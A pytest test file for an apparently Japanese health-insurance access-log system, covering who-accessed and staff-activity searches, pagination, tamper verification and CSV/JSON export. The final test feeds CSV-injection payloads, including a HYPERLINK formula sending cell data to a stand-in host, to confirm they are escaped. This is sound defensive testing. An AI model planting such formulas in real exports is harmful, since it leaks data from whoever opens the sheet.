"""The access records, searchable (issue 11 item 6): who accessed a person between two dates — a query
on the subject index, across chains and batches — and what one member of staff accessed; CSV and JSON;
every search is itself recorded; the index is checked by `kokuho audit verify`."""

from __future__ import annotations

import csv
import io
import json
from datetime import date, timedelta
from typing import Any

import pytest
from pynamodb.exceptions import TransactWriteError
from pynamodb.transactions import TransactWrite

from kokuho.access.records import Actor, record_access, verify_all
from kokuho.access.search import MAX_PAGE_SIZE, SearchError, staff_activity, who_accessed, who_accessed_page
from kokuho.cli.main import main as cli_main
from kokuho.dates.tokyo import today_jst
from kokuho.records.access_log import AccessRecordModel, SubjectIndexModel
from kokuho.records.base import connection
from kokuho_local.embedded import EmbeddedAWS

CLERK = Actor(staff_id="S0001", terminal_id="T-KOKUHO-03", purpose="資格管理 (国保法第9条)")
OTHER = Actor(staff_id="S0002", terminal_id="T-KOKUHO-07", purpose="賦課 (国保法第76条)")
AUDITOR = Actor(staff_id="A0001", terminal_id="T-SEC-01", purpose="アクセス記録の点検")
BATCH = Actor(staff_id="system:monthly", terminal_id="exec-1", purpose="月次賦課")
# The searches take days in Japan (kokuho.access.search.date_range): today is Tokyo's, whatever the clock's zone.
TODAY = today_jst().isoformat()
YESTERDAY = (today_jst() - timedelta(days=1)).isoformat()


def _history() -> None:
    record_access(CLERK, ["P1"], "qualification", "read")
    record_access(OTHER, ["P2"], "assessment", "read")
    # P1 among many, in a batch's own chain (not P1's), too many to index inside the record's transaction
    record_access(BATCH, [f"H{i:03d}" for i in range(150)] + ["P1"], "assessment", "write", chain="run-1#b-0")
    with TransactWrite(connection=connection()) as tx:  # in a caller's transaction
        record_access(OTHER, ["P3", "P1"], "qualification", "update", transaction=tx)


def test_who_accessed_finds_every_record_naming_the_person_across_chains(aws: EmbeddedAWS) -> None:
    _history()
    rows = who_accessed("P1", TODAY, TODAY, AUDITOR)
    assert [(r["staff_id"], r["category"], r["operation"], r["chain"], r["subjects"]) for r in rows] == [
        ("S0001", "qualification", "read", "SUBJECT#P1", 1),
        ("system:monthly", "assessment", "write", "run-1#b-0", 151),
        ("S0002", "qualification", "update", "SUBJECT#P3", 2),
        ("A0001", "access_records", "search_subject", "SUBJECT#P1", 1),  # this search, recorded first
    ]
    assert rows == sorted(rows, key=lambda r: r["at"])
    assert [r["operation"] for r in who_accessed("P2", TODAY, TODAY, AUDITOR)] == ["read", "search_subject"]
    assert verify_all()[2] == []


def test_dates_bound_the_search_and_both_days_are_included(aws: EmbeddedAWS) -> None:
    record_access(CLERK, ["P1"], "qualification", "read")
    assert who_accessed("P1", YESTERDAY, YESTERDAY, AUDITOR) == []
    assert len(who_accessed("P1", YESTERDAY, TODAY, AUDITOR)) == 3  # the read and both searches
    for bad in (("2026-13-01", TODAY), (TODAY, YESTERDAY), ("yesterday", TODAY), ("20261130", TODAY)):
        with pytest.raises(SearchError):
            who_accessed("P1", *bad, AUDITOR)


def test_a_batch_record_too_large_for_its_transaction_is_indexed_after_commit(aws: EmbeddedAWS) -> None:
    subjects = [f"H{i:03d}00" for i in range(120)]  # scattered (a monthly run's): no two of one bucket
    with TransactWrite(connection=connection()) as tx:
        record_access(BATCH, subjects, "assessment", "write", chain="run-2#b-1", transaction=tx)
        assert len(tx._put_items) == 1  # the record alone: its 120 entries would pass 100 items
    assert {s: len(list(SubjectIndexModel.query(f"SUBJ#{s}"))) for s in subjects} == dict.fromkeys(subjects, 1)
    assert verify_all()[2] == []


def test_a_failed_transaction_leaves_no_index_entry(aws: EmbeddedAWS) -> None:
    record_access(CLERK, ["P9"], "qualification", "read")
    with pytest.raises(TransactWriteError), TransactWrite(connection=connection()) as tx:
        record_access(CLERK, ["P9"], "qualification", "update", transaction=tx)
        # the caller's change fails its condition: nothing of the transaction is written
        tx.condition_check(AccessRecordModel, "CHAIN#none", "REC#none", condition=AccessRecordModel.pk.exists())
    assert len(list(SubjectIndexModel.query("SUBJ#P9"))) == 1
    assert verify_all()[2] == []


def test_verify_names_a_missing_and_an_edited_index_entry(aws: EmbeddedAWS) -> None:
    record_access(CLERK, ["P1", "P2", "P3"], "qualification", "read")
    p1, = SubjectIndexModel.query("SUBJ#P1")
    p2, = SubjectIndexModel.query("SUBJ#P2")
    p3, = SubjectIndexModel.query("SUBJ#P3")
    p1.delete()  # hides the access from a who-accessed search
    p2.update(actions=[SubjectIndexModel.row.set(p2.row.replace("S0001", "S9999"))])  # names another staff
    p3.update(actions=[SubjectIndexModel.row.set("{not json")])  # unreadable: edited too, not a crash
    assert [str(b) for b in verify_all()[2]] == [
        "chain SUBJECT#P1 record 1: subject P1 has no index entry: a search for who accessed them would miss "
        "this record",
        "chain SUBJECT#P1 record 1: index entry of subject P2 differs from its record: edited",
        "chain SUBJECT#P1 record 1: index entry of subject P3 differs from its record: edited",
    ]
    assert [r["staff_id"] for r in who_accessed("P2", TODAY, TODAY, AUDITOR)] == ["S9999", "A0001"]


def test_a_batch_read_is_found_for_each_household_through_entries_its_bucket_shares(aws: EmbeddedAWS) -> None:
    # An annual run's batch reads 100 households in the order of their ids: its record leaves an entry shared
    # by the households of a bucket (ids alike but their last two characters), committed with the record (one
    # transaction, not a record and then 100 entries); fewer than ten of a bucket keep entries of their own
    households = [f"H0000{n}" for n in range(106, 206)]
    with TransactWrite(connection=connection()) as tx:
        record_access(BATCH, households, "賦課用世帯情報", "read", chain="run-9#b-0", transaction=tx)
        assert len(tx._put_items) == 1 + 1 + 6  # the record, the shared entry of H00001…, six of their own
    shared = [e for e in SubjectIndexModel.scan() if e.pk.startswith("SUBJS#")]
    assert [(e.pk, len(e.m or [])) for e in shared] == [("SUBJS#H00001", 94)]
    assert sorted(e.pk for e in SubjectIndexModel.scan() if e.pk.startswith("SUBJ#")) == [
        f"SUBJ#H000020{d}" for d in range(6)]
    record_access(CLERK, ["H0000150"], "qualification", "read")  # and a clerk's read of one of them
    for household in ("H0000106", "H0000150", "H0000199", "H0000205"):
        rows = who_accessed(household, TODAY, TODAY, AUDITOR)
        assert [(r["subject_id"], r["staff_id"], r["terminal_id"], r["purpose"], r["category"], r["operation"],
                 r["chain"], r["subjects"]) for r in rows if r["operation"] != "search_subject"] == [
            (household, "system:monthly", "exec-1", "月次賦課", "賦課用世帯情報", "read", "run-9#b-0", 100),
            *([(household, "S0001", "T-KOKUHO-03", CLERK.purpose, "qualification", "read", "SUBJECT#H0000150", 1)]
              if household == "H0000150" else [])]
    # a household of the same bucket that no batch read: its bucket's entries are not its history
    assert [r["operation"] for r in who_accessed("H0000105", TODAY, TODAY, AUDITOR)] == ["search_subject"]
    assert [r["operation"] for r in who_accessed("H000015", TODAY, TODAY, AUDITOR)] == ["search_subject"]
    assert verify_all()[2] == []


def _run_read(chain: str, households: list[str]) -> None:
    record_access(BATCH, households, "賦課用世帯情報", "read", chain=chain)


def test_a_page_of_who_accessed_merges_own_and_shared_entries_in_order(aws: EmbeddedAWS) -> None:
    for n in range(4):  # a run's batch, a clerk and another batch of the bucket (not naming H0000113), in turn
        _run_read(f"run-{n}#b-0", [f"H00001{d:02d}" for d in range(10, 30)])
        record_access(CLERK, ["H0000113"], "qualification", "read")
        _run_read(f"other-{n}#b-0", [f"H00001{d:02d}" for d in range(30, 50)])
    pages, token = [], None
    while True:
        page = who_accessed_page("H0000113", TODAY, TODAY, AUDITOR, limit=3, page_token=token)
        pages.append([(r["chain"], r["operation"]) for r in page.rows])
        if (token := page.next_token) is None:
            break
    rows = [row for page in pages for row in page]
    assert rows[:8] == [(f"run-{n}#b-0", "read") if i % 2 == 0 else ("SUBJECT#H0000113", "read")
                        for n in range(4) for i in range(2)]
    assert [len(p) for p in pages] == [3, 3, 3, 3] and [op for _, op in rows[8:]] == ["search_subject"] * 4


def test_verify_names_a_shared_entry_deleted_edited_or_with_a_household_taken_out(aws: EmbeddedAWS) -> None:
    bucket = [f"H00002{d:02d}" for d in range(100)]
    for n in range(3):
        _run_read(f"run-{n}#b-0", bucket + [f"H00003{d:02d}" for d in range(12)])
    first, second, third = sorted(SubjectIndexModel.query("SUBJS#H00002"), key=lambda e: e.sk)
    first.delete()  # the whole bucket's reads by run 0 hidden from who-accessed
    second.update(actions=[SubjectIndexModel.m.set([f"{d:02d}" for d in range(100) if d != 7])])
    third.update(actions=[SubjectIndexModel.row.set(third.row.replace("system:monthly", "S0001"))])
    stray = SubjectIndexModel("SUBJS#H00003", "2026-01-01T00:00:00.000000+00:00#run-x#b-0#0000000001",
                              row=third.row, m=["01"])
    stray.save()  # a read no record made
    listed = ", ".join(bucket[:10]) + " and 90 more (shared entry)"
    assert [str(b) for b in verify_all()[2]] == [
        f"chain run-0#b-0 record 1: subjects {listed} have no index entry: a search for who accessed them would "
        "miss this record",
        f"chain run-1#b-0 record 1: index entry of subjects {listed} differs from its record: edited",
        f"chain run-2#b-0 record 1: index entry of subjects {listed} differs from its record: edited",
        "chain run-x#b-0 record 1: index entry of subjects H0000301 (shared entry) names no such record",
    ]
    # what the edits did to a search: the deleted and the taken-out reads are missing (verify names them)
    assert [r["chain"] for r in who_accessed("H0000207", TODAY, TODAY, AUDITOR)][:-1] == ["run-2#b-0"]
    assert [r["chain"] for r in who_accessed("H0000208", TODAY, TODAY, AUDITOR)][:-1] == ["run-1#b-0", "run-2#b-0"]


def test_who_accessed_comes_a_page_at_a_time_each_page_recorded(aws: EmbeddedAWS) -> None:
    for operation in ("read", "update", "read", "read", "update"):
        record_access(CLERK, ["P1"], "qualification", operation)
    first = who_accessed_page("P1", TODAY, TODAY, AUDITOR, limit=3)
    assert [r["operation"] for r in first.rows] == ["read", "update", "read"]
    assert first.next_token is not None
    second = who_accessed_page("P1", TODAY, TODAY, AUDITOR, limit=3, page_token=first.next_token)
    # the rest, oldest first: the two reads and then both page requests, each recorded before it answered
    assert [r["operation"] for r in second.rows] == ["read", "update", "search_subject"]
    third = who_accessed_page("P1", TODAY, TODAY, AUDITOR, limit=3, page_token=second.next_token)
    assert [r["operation"] for r in third.rows] == ["search_subject", "search_subject"]
    assert third.next_token is None
    # the whole listing (the CLI's): every row once, in order, the listing itself recorded once
    rows = who_accessed("P1", TODAY, TODAY, AUDITOR)
    assert [r["seq"] for r in rows] == list(range(1, 10))
    assert [r["operation"] for r in rows].count("search_subject") == 4


def test_a_page_token_is_checked(aws: EmbeddedAWS) -> None:
    record_access(CLERK, ["P1"], "qualification", "read")
    record_access(CLERK, ["P2"], "qualification", "read")
    token = who_accessed_page("P1", TODAY, TODAY, AUDITOR, limit=1).next_token
    assert token is not None
    # another person's token, a token outside the period, a forged one, a bad limit: refused, not a listing
    for person, start, bad in (("P2", TODAY, token), ("P1", TODAY, "bm90IGEga2V5"), ("P1", TODAY, "%%%"),
                               ("P1", TODAY, "x" * 1000)):
        with pytest.raises(SearchError, match="page_token"):
            who_accessed_page(person, start, TODAY, AUDITOR, page_token=bad)
    for limit in (0, -1, MAX_PAGE_SIZE + 1):
        with pytest.raises(SearchError, match="limit"):
            who_accessed_page("P1", TODAY, TODAY, AUDITOR, limit=limit)


def test_records_older_than_the_index_are_not_expected_to_have_entries(aws: EmbeddedAWS) -> None:
    from kokuho.access.chain import record_hash

    item: dict[str, Any] = {"pk": "CHAIN#SUBJECT#P7", "sk": "REC#0000000001", "chain": "SUBJECT#P7", "seq": 1,
            "at": "2025-01-01T00:00:00.000000+00:00", "staff_id": "S0001", "terminal_id": "T1", "purpose": "p",
            "subject_ids": ["P7"], "category": "qualification", "operation": "read", "result": "ok",
            "prev_hash": "GENESIS", "gsi1pk": "STAFF#S0001", "gsi1sk": "2025-01-01T00:00:00.000000+00:00#0"}
    AccessRecordModel(hash=record_hash(item), **item).save()
    assert verify_all()[2] == []


def test_staff_activity_lists_one_member_of_staffs_records_in_the_period(aws: EmbeddedAWS) -> None:
    _history()
    rows = staff_activity("S0002", TODAY, TODAY, AUDITOR)
    assert [(r["subject_ids"], r["operation"]) for r in rows] == [(["P2"], "read"), (["P3", "P1"], "update")]
    assert staff_activity("S0002", YESTERDAY, YESTERDAY, AUDITOR) == []
    # the searches themselves, under the auditor's id, with the searched staff as their subject, and the persons
    # the first one's rows showed (the second showed none)
    assert [(r["subject_ids"], r["operation"]) for r in staff_activity("A0001", TODAY, TODAY, AUDITOR)] == [
        (["STAFF:S0002"], "search_staff"), (["P1", "P2", "P3"], "search_staff_shown"),
        (["STAFF:S0002"], "search_staff"), (["STAFF:A0001"], "search_staff")]


def test_a_staff_search_shows_in_the_history_of_the_persons_it_showed(aws: EmbeddedAWS) -> None:
    # `audit staff S0002` shows the security team that S0002 read P2 and updated P3 and P1: it was recorded only as
    # an access to STAFF:S0002, so P1's own history (who accessed P1, the person's disclosure) never showed it.
    _history()
    staff_activity("S0002", TODAY, TODAY, AUDITOR)
    rows = who_accessed("P3", TODAY, TODAY, AUDITOR)
    assert [(r["staff_id"], r["operation"]) for r in rows] == [
        ("S0002", "update"), ("A0001", "search_staff_shown"), ("A0001", "search_subject")]
    assert verify_all()[2] == []


def test_cli_who_accessed_and_staff_in_csv_and_json(aws: EmbeddedAWS, capsys: pytest.CaptureFixture[str]) -> None:
    from kokuho.access.staff import Grant, StaffMember, put_grant, put_staff

    _history()
    # the command needs the member's grant, as the API's routes do (tests/integration/qualification/test_cli_grants.py)
    put_staff(StaffMember("A0001", "点検 一郎", "情報政策課", date(2020, 4, 1), None))
    put_grant(Grant("A0001", "G-SEC", "read_access_records", "アクセス記録の点検", "個人情報保護法第66条", "情報政策課",
                    date(2020, 4, 1), date(2099, 3, 31), "S9001", "2020-04-01T09:00:00+09:00"))
    assert cli_main(["audit", "who-accessed", "P1", "--from", TODAY, "--to", TODAY, "--as", "A0001"]) == 0
    rows = list(csv.DictReader(io.StringIO(capsys.readouterr().out)))
    assert [(r["staff_id"], r["operation"], r["terminal_id"]) for r in rows] == [
        ("S0001", "read", "T-KOKUHO-03"), ("system:monthly", "write", "exec-1"), ("S0002", "update", "T-KOKUHO-07"),
        ("A0001", "search_subject", "cli")]
    assert cli_main(["audit", "staff", "S0002", "--from", TODAY, "--to", TODAY, "--as", "A0001",
                     "--format", "json"]) == 0
    out = json.loads(capsys.readouterr().out)
    assert [(r["subject_ids"], r["category"]) for r in out] == [(["P2"], "assessment"), (["P3", "P1"], "qualification")]
    assert cli_main(["audit", "staff", "S0002", "--from", TODAY, "--to", YESTERDAY, "--as", "A0001"]) == 2
    assert "to: before from" in capsys.readouterr().err


@pytest.mark.parametrize("spelt", ["P1 ", " P1", "Ｐ１", "P 1", "P1\u3000", "P1\u200b"])
def test_a_search_for_an_id_no_record_can_name_is_refused_not_answered_empty(aws: EmbeddedAWS, spelt: str) -> None:
    """A person's id pasted with a space ('P1 ') or typed in full width ('Ｐ１') was searched as given: the answer was
    'nobody accessed', and the search itself was recorded as an access to 'P1 ', so P1's history did not show it
    either. An id holds no space and no character outside printable ASCII (no record's subject does): refused."""
    _history()
    before = len(who_accessed("P1", TODAY, TODAY, AUDITOR))
    with pytest.raises(SearchError, match="person"):
        who_accessed(spelt, TODAY, TODAY, AUDITOR)
    with pytest.raises(SearchError, match="staff"):
        staff_activity(spelt.replace("P", "S000"), TODAY, TODAY, AUDITOR)
    assert len(who_accessed("P1", TODAY, TODAY, AUDITOR)) == before + 1  # only the search just made
    assert not [r for r in staff_activity("A0001", TODAY, TODAY, AUDITOR) if r["subject_ids"] != ["P1"]
                and r["subject_ids"] != ["STAFF:A0001"]]


@pytest.mark.parametrize("typed", ['=HYPERLINK("https://example.invalid/?"&A1,"詳細")', "+1+cmd", "-2+3",
                                   "@SUM(1,1)", "\t=1+1", "\r=1+1"])
def test_the_csv_never_hands_a_spreadsheet_a_formula(aws: EmbeddedAWS, capsys: pytest.CaptureFixture[str],
                                                      typed: str) -> None:
    # A reveal refused for a purpose its grant does not name records the purpose as typed; a run's terminal is the
    # name its execution was started with. Opened in a spreadsheet, the security team's CSV ran such a cell as a
    # formula (CSV injection: HYPERLINK/WEBSERVICE send the sheet's cells away). Every cell a formula could start
    # with is written as text, with a leading apostrophe; the JSON keeps the value as recorded.
    from kokuho.access.staff import Grant, StaffMember, put_grant, put_staff

    record_access(Actor("S0003", "T-KOKUHO-05", typed), ["P1"], "my_number", "reveal", result="denied")
    put_staff(StaffMember("A0001", "点検 一郎", "情報政策課", date(2020, 4, 1), None))
    put_grant(Grant("A0001", "G-SEC", "read_access_records", "アクセス記録の点検", "個人情報保護法第66条", "情報政策課",
                    date(2020, 4, 1), date(2099, 3, 31), "S9001", "2020-04-01T09:00:00+09:00"))
    for command in (["who-accessed", "P1"], ["staff", "S0003"]):
        assert cli_main(["audit", *command, "--from", TODAY, "--to", TODAY, "--as", "A0001"]) == 0
        rows = list(csv.reader(io.StringIO(capsys.readouterr().out)))
        cells = [cell for row in rows for cell in row]
        assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
        assert "'" + typed in cells
    assert cli_main(["audit", "staff", "S0003", "--from", TODAY, "--to", TODAY, "--as", "A0001",
                     "--format", "json"]) == 0
    assert json.loads(capsys.readouterr().out)[0]["purpose"] == typed
